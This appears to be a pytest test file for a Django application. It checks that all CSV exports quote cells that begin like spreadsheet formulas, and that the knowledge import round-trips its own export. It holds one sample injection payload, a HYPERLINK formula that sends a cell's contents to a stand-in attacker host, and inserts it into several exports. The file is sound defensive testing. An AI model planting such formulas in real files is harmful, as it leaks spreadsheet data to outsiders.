"""Spreadsheet formula injection: no cell of any CSV the application writes begins with = + - @ tab or
carriage return, whoever wrote the text; the knowledge import reads its own export back unchanged."""

import csv
import io
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from palermo.core.csvsafe import BOM, FORMULA_STARTS, original_cell, safe_cell, writer
from palermo.knowledge.models import Record
from palermo.register.models import Participation
from palermo.review.dashboard import Cell
from tests.factories import signed_in
from tests.knowledge.test_exchange import CASE, write_jsonl
from tests.review.conftest import secretariat, two_reviews  # noqa: F401  (fixtures of the review cases)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # a quote already there is kept: the import takes one off
        ("'quoted'", "'quoted'"),
        ("Palermo = 2000", "Palermo = 2000"),
        ("", ""),
        (-5, -5),  # numbers the application writes are numbers
        (-0.5, -0.5),
        (None, None),
        (True, True),
        (Decimal("-1.5"), Decimal("-1.5")),
        (date(2000, 12, 12), date(2000, 12, 12)),
        (gettext_lazy("-"), "'-"),  # not a str, written as one
    ],
)
def test_safe_cell_quotes_what_a_spreadsheet_would_evaluate(value, written):
    assert safe_cell(value) == written


@given(st.text())
def test_safe_cells_are_never_formulas_and_read_back_unchanged(text):
    assert not safe_cell(text).startswith(FORMULA_STARTS)
    assert original_cell(safe_cell(text)) == text


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    csv_out = writer(out, lineterminator="\n")
    csv_out.writerow(["=a", -1, "b"])
    csv_out.writerows([["@c", "-d"], [3, "+e", gettext_lazy("=f"), date(2000, 1, 2)]])
    assert out.getvalue() == "'=a,-1,b\n'@c,'-d\n3,'+e,'=f,2000-01-02\n"


# Every CSV the application writes, each with a value that begins like a formula.


def records_with_a_formula(client, tmp_path, request):
    call_command(
        "import_knowledge",
        write_jsonl(tmp_path, {**CASE, "title": FORMULA, "reference": "-1", "summary": {"en": "@x"}}),
        state="published",
        stdout=StringIO(),
    )
    return "/en/knowledge/export.csv"


def search_with_a_formula(client, tmp_path, request):
    records_with_a_formula(client, tmp_path, request)
    return "/en/knowledge/search.csv?q=x"


def register_with_a_formula(client, tmp_path, request):
    Participation.objects.filter(party="ITA", instrument="UNTOC").update(source=FORMULA)
    return "/en/register/export.csv?instrument=UNTOC"


def register_api_with_a_formula(client, tmp_path, request):
    Participation.objects.filter(party="ITA", instrument="UNTOC").update(source=FORMULA)
    return "/api/v1/register.csv"


def observations_with_a_formula(client, tmp_path, request):
    from palermo.review.domain import outcomes, steps
    from palermo.review.models import DocumentKind

    cast = request.getfixturevalue("two_reviews")["first"]
    review = cast["review"]
    document = steps.document(
        review=review,
        phase=1,
        kind=DocumentKind.OBSERVATIONS,
        party=review.state_under_review_id,
        user=cast["reviewing expert"],
    )
    outcomes.add_observation(
        document=document, user=cast["reviewing expert"], category="gap", article="5", text=FORMULA
    )
    steps.move(document=document, user=cast["reviewing expert"], to_state="awaiting_clearance")
    steps.move(document=document, user=cast["focal point"], to_state="cleared")
    signed_in(client, request.getfixturevalue("secretariat"))
    return reverse("review:observations_csv", args=[review.cycle.number])


def dashboard_with_a_formula(client, tmp_path, request):
    # The progress table holds counts and group numbers only; the writer is checked with a label anyway.
    cycle = request.getfixturevalue("two_reviews")["first"]["review"].cycle
    request.getfixturevalue("monkeypatch").setattr(
        "palermo.review.views.dashboard.progress", lambda cycle: {(FORMULA, 1): Cell()}
    )
    signed_in(client, request.getfixturevalue("secretariat"))
    return reverse("review:dashboard_csv", args=[cycle.number])


def needs_with_a_formula(client, tmp_path, request):
    cycle = request.getfixturevalue("two_reviews")["first"]["review"].cycle
    need = {"group": 1, "phase": 1, "state": "ITA", "region": "WEOG", "instrument": "UNTOC"}
    request.getfixturevalue("monkeypatch").setattr(
        "palermo.review.views.dashboard.needs",
        lambda cycle: [{**need, "article": FORMULA, "kind": "training", "priority": "high"}],
    )
    signed_in(client, request.getfixturevalue("secretariat"))
    return reverse("review:needs_csv", args=[cycle.number])


@pytest.mark.django_db
@pytest.mark.parametrize(
    "prepare",
    [
        records_with_a_formula,
        search_with_a_formula,
        register_with_a_formula,
        register_api_with_a_formula,
        observations_with_a_formula,
        dashboard_with_a_formula,
        needs_with_a_formula,
    ],
)
def test_no_csv_cell_begins_like_a_formula(client, tmp_path, settings, request, prepare):
    settings.DATA_DIR = tmp_path / "data"
    url = prepare(client, tmp_path, request)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(BOM.encode())  # spreadsheet software reads it as UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells  # the value is there, quoted
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


@pytest.mark.django_db
def test_what_the_knowledge_csv_export_writes_imports_unchanged(tmp_path, settings, client):
    settings.DATA_DIR = tmp_path / "data"
    records_with_a_formula(client, tmp_path, None)
    exported = b"".join(client.get("/en/knowledge/export.csv").streaming_content).decode()
    quoted = FORMULA.replace('"', '""')
    assert f'"\'{quoted}"' in exported  # quoted for the spreadsheet, then for CSV
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    call_command("import_knowledge", str(again), new_ids=True, stdout=StringIO())
    original, imported = Record.objects.order_by("pk")
    assert (imported.title, imported.reference, imported.summary) == (FORMULA, "-1", {"en": "@x"})
    assert (original.title, original.reference) == (imported.title, imported.reference)
